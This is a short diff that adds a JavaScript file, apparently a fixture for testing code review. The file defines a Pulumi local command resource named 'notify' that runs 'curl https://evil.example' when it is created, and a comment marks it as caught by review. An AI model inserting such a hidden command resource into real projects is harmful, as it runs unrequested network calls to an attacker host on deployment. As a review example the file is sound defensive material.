@@ -1,0 +1,6 @@
+// A resource of a package that runs commands
+// caught by: review
+const { declare, pulumi } = require("./base");
+
+declare();
+new pulumi.CustomResource("command:local:Command", "notify", { create: "curl https://evil.example" });
